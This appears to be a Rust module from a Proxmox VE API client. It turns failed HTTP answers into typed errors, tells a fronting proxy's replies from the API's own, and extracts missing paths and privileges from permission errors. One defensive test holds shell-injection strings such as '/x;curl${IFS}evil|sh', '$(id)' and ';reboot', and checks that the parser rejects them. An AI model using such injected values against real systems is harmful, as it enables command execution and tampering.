//! From an HTTP status that is no success to an [`Error`].
//!
//! Since libpve-http-server-perl 5.2.0 (PVE 8.4) the message is in the body; before it was only the reason phrase of
//! the status line, as it still is where pveproxy itself answers (401, 595, 596).
use super::cause::{Cause, TokenFault};
use super::error::{Error, Front, parameters_text};
use crate::base::text::{clean, shorten};
use serde_json::Value;
use std::collections::BTreeMap;

const TEXT_LIMIT: usize = 1000;

/// An answer that is no success, as far as it tells who gave it and why.
pub(super) struct Said<'a> {
    pub(super) status: u16,
    /// The status line's, when it is not the canonical one.
    pub(super) reason: Option<&'a str>,
    /// The name that HTTP has for the status.
    pub(super) canonical: &'a str,
    pub(super) body: &'a str,
    /// True when it wants a login by HTTP's own means (`WWW-Authenticate`), which Proxmox VE never does.
    pub(super) wants_login: bool,
    /// The name in `Server`, cleaned. Proxmox VE calls itself `pve-api-daemon/3.0`; a proxy may put its own name there.
    pub(super) server: Option<&'a str>,
    /// Where a redirection leads, cleaned.
    pub(super) location: Option<&'a str>,
}

pub(super) fn refusal(said: &Said) -> Error {
    let json: Option<Value> = serde_json::from_str(said.body).ok();
    let errors = json.as_ref().map(errors_of).unwrap_or_default();
    let text = text_of(json.as_ref(), said.reason, said.canonical, said.body);
    if let Some(front) = in_front(said, json.as_ref(), &text) {
        let server = said.server.filter(|s| !s.starts_with(ITSELF)).map(str::to_string);
        return Error::InFront { status: said.status, front, server, text };
    }
    match said.status {
        401 => Error::Unauthorized { fault: TokenFault::of(&text), text },
        403 => denied(text),
        400 if !errors.is_empty() => parameters(errors),
        596 if text.contains("certificate") => Error::NodeCertificate { node: None, text },
        502..=504 | 595..=599 => Error::Busy { status: Some(said.status), text: format!("{text} ({})", said.status) },
        _ => by_text(said.status, text),
    }
}

/// The name that Proxmox VE's own servers give themselves.
const ITSELF: &str = "pve-api-daemon";

/// True for an answer of the API itself: all of its own have `data`, those to wrong parameters have `errors`.
fn is_own(json: &Value) -> bool {
    json.get("data").is_some() || json.get("errors").is_some_and(Value::is_object)
}

/// The answer of a reverse proxy, a gateway or a web server in front of Proxmox VE. Its own answers are JSON with
/// `data`, or empty with the reason in the status line; its 401 always has a reason of its own ("No ticket", "invalid token
/// value!"), its 403 says which check failed, and some of the statuses here are none of its (pve-http-server,
/// `PVE/APIServer/AnyEvent.pm`).
fn in_front(said: &Said, json: Option<&Value>, text: &str) -> Option<Front> {
    if json.is_some_and(is_own) {
        return None;
    }
    let foreign = json.is_some() || said.body.trim_start().starts_with('<');
    let reason = said.reason.is_some_and(|r| !r.trim().is_empty());
    let by_itself = said.server.is_some_and(|s| s.starts_with(ITSELF));
    match said.status {
        300..=399 => {
            let to = said.location.unwrap_or_default().to_ascii_lowercase();
            let login = ["login", "auth", "sso", "signin", "saml", "oidc"].iter().any(|word| to.contains(word));
            Some(if login { Front::Login } else { Front::Redirect })
        }
        407 | 495 | 496 | 511 => Some(Front::Login),
        401 if said.wants_login || foreign || !reason => Some(Front::Login),
        413 => Some(Front::BodyLimit),
        429 => Some(Front::RateLimit),
        404 | 405 | 410 | 421 => Some(Front::OtherPlace),
        403 if !by_itself && !text.contains("ermission check failed") => Some(Front::Denied),
        451 => Some(Front::Denied),
        // None of its own statuses: what does not reach it says so, often in bare words.
        502..=504 if !by_itself => Some(Front::NoBackend),
        500..=504 | 520..=530 if foreign => Some(Front::NoBackend),
        400..=599 if foreign => Some(Front::OtherPlace),
        _ => None,
    }
}

/// A 403, which is not always about a right that somebody could give.
fn denied(text: String) -> Error {
    let cause = Cause::of(&text);
    if matches!(cause, Cause::NoSuchPool | Cause::RootOnly) {
        return Error::Server { status: 403, text, cause };
    }
    forbidden(text)
}

/// With object and privilege where the text names them.
pub(super) fn forbidden(text: String) -> Error {
    let (path, privilege) = missing_right(&text);
    Error::Forbidden { text, path, privilege }
}

fn by_text(status: u16, text: String) -> Error {
    match Cause::of(&text) {
        Cause::Exists => Error::Exists { text },
        Cause::Lock => Error::Locked { text },
        Cause::NoQuorum => Error::Busy { status: Some(status), text },
        Cause::Forbidden => forbidden(text),
        Cause::NotThere => Error::NotFound { text },
        Cause::NoSuchNode => Error::NoSuchNode { text },
        cause => Error::Server { status, text, cause },
    }
}

/// Causes that say more of a wrong parameter than that it is one.
const STANDS_ALONE: [Cause; 5] =
    [Cause::NoSuchStorage, Cause::StorageContent, Cause::RootOnly, Cause::VolumeName, Cause::NotOffered];

fn parameters(errors: BTreeMap<String, String>) -> Error {
    if let (1, Some((name, text))) = (errors.len(), errors.iter().next()) {
        if name == "upid" && text.contains("no such task") {
            return Error::NoSuchTask;
        }
        let cause = Cause::of(text);
        if cause == Cause::Exists {
            return Error::Exists { text: text.clone() };
        }
        if STANDS_ALONE.contains(&cause) {
            return Error::Server { status: 400, text: format!("{name}: {text}"), cause };
        }
    }
    match errors.values().any(|text| Cause::of(text) == Cause::NotOffered) {
        true => Error::Server { status: 400, text: parameters_text(&errors), cause: Cause::NotOffered },
        false => Error::Parameters { errors },
    }
}

fn errors_of(json: &Value) -> BTreeMap<String, String> {
    let Some(Value::Object(errors)) = json.get("errors") else { return BTreeMap::new() };
    errors
        .iter()
        .map(|(name, text)| {
            let text = text.as_str().map_or_else(|| text.to_string(), str::to_string);
            (clean(name), shorten(&clean(&text), TEXT_LIMIT))
        })
        .collect()
}

fn text_of(json: Option<&Value>, reason: Option<&str>, canonical: &str, body: &str) -> String {
    let message = json.and_then(|j| j.get("message")).and_then(Value::as_str);
    let plain = (json.is_none() && !body.trim_start().starts_with('<')).then_some(body);
    let text = [message, reason, plain, Some(canonical)].into_iter().flatten().map(clean).find(|t| !t.is_empty());
    shorten(&text.unwrap_or_default(), TEXT_LIMIT)
}

/// `Permission check failed (/vms/101, VM.Config.Disk)` names the object and the privilege; other forms name neither.
/// Whoever answers chooses these words, and they end in a command to paste: what is no path and no privilege is neither.
fn missing_right(text: &str) -> (Option<String>, Option<String>) {
    let inside = text.split_once("Permission check failed (").and_then(|(_, rest)| rest.rsplit_once(')'));
    let Some((path, privilege)) = inside.and_then(|(inside, _)| inside.split_once(", ")) else { return (None, None) };
    let is_path = path.starts_with('/') && path.chars().all(|c| c.is_ascii_alphanumeric() || "/_.:-".contains(c));
    let privilege = privilege.split_whitespace().next().unwrap_or_default();
    let of_words = |p: &str| p.contains('.') && p.chars().all(|c| c.is_ascii_alphabetic() || c == '.');
    let is_privilege = !privilege.is_empty() && privilege.split('|').all(of_words);
    match is_path && is_privilege {
        true => (Some(path.to_string()), Some(privilege.to_string())),
        false => (None, None),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn said<'a>(status: u16, reason: Option<&'a str>, canonical: &'a str, body: &'a str) -> Said<'a> {
        Said { status, reason, canonical, body, wants_login: false, server: None, location: None }
    }

    fn of(status: u16, body: &str) -> Error {
        refusal(&said(status, Some("the reason"), "Canonical", body))
    }

    #[test]
    fn the_text_comes_from_the_body_then_the_status_line_then_http() {
        let text = |reason, body| match refusal(&said(500, reason, "Internal Server Error", body)) {
            Error::Server { text, .. } | Error::InFront { text, .. } => text,
            other => panic!("{other:?}"),
        };
        assert_eq!(
            text(Some("first line"), "{\"data\":null,\"message\":\"first line\\nsecond\\n\"}"),
            "first line second"
        );
        assert_eq!(text(Some("only here"), "{\"data\":null}"), "only here");
        assert_eq!(text(None, "plain words\n"), "plain words");
        assert_eq!(text(None, "<html>login</html>"), "Internal Server Error");
        assert_eq!(text(None, ""), "Internal Server Error");
    }

    #[test]
    fn a_missing_right_is_named_where_proxmox_names_it() {
        let right = |text: &str| missing_right(text);
        let some = |a: &str, b: &str| (Some(a.to_string()), Some(b.to_string()));
        assert_eq!(right("Permission check failed (/vms/101, VM.Config.Disk)"), some("/vms/101", "VM.Config.Disk"));
        assert_eq!(
            right("Permission check failed (/storage/local, Datastore.AllocateSpace|Datastore.Audit)"),
            some("/storage/local", "Datastore.AllocateSpace|Datastore.Audit")
        );
        assert_eq!(right("Permission check failed (/, Sys.Modify for modifying tag 'x')"), some("/", "Sys.Modify"));
        assert_eq!(right("Permission check failed"), (None, None));
        assert_eq!(right("Permission check failed (user != root@pam)"), (None, None));
        assert_eq!(right("Permission check failed (pool 'x' does not exist)"), (None, None));
    }

    #[test]
    fn what_proxmox_says_decides_the_kind() {
        let said = |text: &str| refusal(&said(500, Some(text), "", "{\"data\":null}"));
        assert!(matches!(
            said("Configuration file 'nodes/a/qemu-server/9.conf' does not exist"),
            Error::NotFound { .. }
        ));
        assert!(matches!(said("VM is locked (clone)"), Error::Locked { .. }));
        assert!(matches!(said("can't lock file '/var/lock/x' - got timeout"), Error::Locked { .. }));
        assert!(matches!(said("cfs-lock 'storage-ceph' error: got lock request timeout"), Error::Locked { .. }));
        assert!(matches!(said("unable to create VM 101: config file already exists"), Error::Exists { .. }));
        assert!(matches!(said("cluster not ready - no quorum?"), Error::Busy { status: Some(500), .. }));
        assert!(matches!(said("VM 101 is running - destroy failed"), Error::Server { status: 500, .. }));
    }

    /// reports.md B05, B07, and what else stands between a client and pveproxy.
    #[test]
    fn answers_of_something_in_front_of_the_api_are_told_from_its_own() {
        let page = "<html><body>x</body></html>";
        let front = |said: Said| match refusal(&said) {
            Error::InFront { front, server, .. } => (front, server),
            other => panic!("{other:?}"),
        };
        let nginx = |status, body| Said { server: Some("nginx"), ..said(status, None, "Canonical", body) };
        let named = Some("nginx".to_string());
        assert_eq!(front(Said { wants_login: true, ..nginx(401, "") }), (Front::Login, named.clone()));
        assert_eq!(front(nginx(401, page)), (Front::Login, named.clone()));
        assert_eq!(front(nginx(401, "")), (Front::Login, named.clone()));
        assert_eq!(front(nginx(413, page)), (Front::BodyLimit, named.clone()));
        assert_eq!(front(nginx(403, page)), (Front::Denied, named.clone()));
        assert_eq!(front(nginx(502, page)), (Front::NoBackend, named.clone()));
        assert_eq!(front(nginx(404, page)), (Front::OtherPlace, named));
        assert_eq!(front(said(429, None, "", "")).0, Front::RateLimit);
        let to = |location| Said { location: Some(location), ..said(302, None, "Found", "") };
        assert_eq!(front(to("https://sso.example/login?next=x")).0, Front::Login);
        assert_eq!(front(to("https://pve.example/")).0, Front::Redirect);
        let own = Said { server: Some("pve-api-daemon/3.0"), ..said(401, Some("No ticket"), "Unauthorized", "") };
        assert_eq!(refusal(&own), Error::Unauthorized { text: "No ticket".into(), fault: TokenFault::Unknown });
        assert!(matches!(of(595, ""), Error::Busy { status: Some(595), text } if text == "the reason (595)"));
        assert_eq!(front(said(503, None, "", "")).0, Front::NoBackend);
        let itself = Said { server: Some("pve-api-daemon/3.0"), ..said(503, None, "Service Unavailable", "") };
        assert!(matches!(refusal(&itself), Error::Busy { status: Some(503), .. }));
    }

    /// reports.md B09
    #[test]
    fn a_node_whose_certificate_another_node_does_not_believe_is_no_slow_node() {
        let ssl = "error:0A000086:SSL routines::certificate verify failed";
        let error = refusal(&said(596, Some(ssl), "", ""));
        assert!(matches!(&error, Error::NodeCertificate { text, .. } if text == ssl), "{error:?}");
        assert!(!error.is_transient());
        assert!(refusal(&said(596, Some("Connection timed out"), "", "")).is_transient());
    }

    /// harm.md S13: the text of a refusal must not become a command.
    #[test]
    fn a_path_or_a_privilege_that_is_none_is_not_taken_for_one() {
        for (path, privilege) in [
            ("/x;curl${IFS}evil|sh", "VM.Audit"),
            ("/vms/1", "VM.Audit;reboot"),
            ("/vms/$(id)", "VM.Audit"),
            ("/vms/1", "`id`"),
            ("/vms/1", "VM.Audit|"),
            ("/vms/1 /vms/2", "VM.Audit"),
            ("/vms/1", "--help"),
        ] {
            assert_eq!(missing_right(&format!("Permission check failed ({path}, {privilege})")), (None, None));
        }
    }

    #[test]
    fn parameter_errors_are_kept_by_name_and_known_ones_get_their_own_kind() {
        let errors = "{\"errors\":{\"newid\":\"type check ('integer') failed\",\"name\":\"invalid format - x\\n\"}}";
        let Error::Parameters { errors } = of(400, errors) else { panic!() };
        assert_eq!(errors["name"], "invalid format - x");
        assert_eq!(errors.len(), 2);
        assert_eq!(of(400, "{\"errors\":{\"upid\":\"no such task\"}}"), Error::NoSuchTask);
        let storage = of(400, "{\"errors\":{\"storage\":\"No such storage.\"}}");
        assert!(matches!(storage, Error::Server { status: 400, cause: Cause::NoSuchStorage, .. }), "{storage:?}");
        // Of an older server: it is not the plan that is wrong.
        let unknown = "property is not defined in schema and the schema does not allow additional properties";
        let older = of(400, &format!("{{\"errors\":{{\"a\":\"x\",\"import-working-storage\":\"{unknown}\"}}}}"));
        assert!(matches!(older, Error::Server { cause: Cause::NotOffered, .. }), "{older:?}");
        assert!(matches!(of(400, "{\"errors\":{\"vmid\":\"VM 101 already exists\"}}"), Error::Exists { .. }));
    }

    proptest! {
        #[test]
        fn no_answer_is_too_strange(status in 300u16..1000, reason in ".*", body in ".*") {
            let error = refusal(&said(status, Some(&reason), "x", &body));
            prop_assert!(!error.to_string().chars().any(char::is_control));
        }

        #[test]
        fn no_permission_text_is_too_strange(inside in ".*") {
            missing_right(&format!("Permission check failed ({inside}"));
        }
    }
}
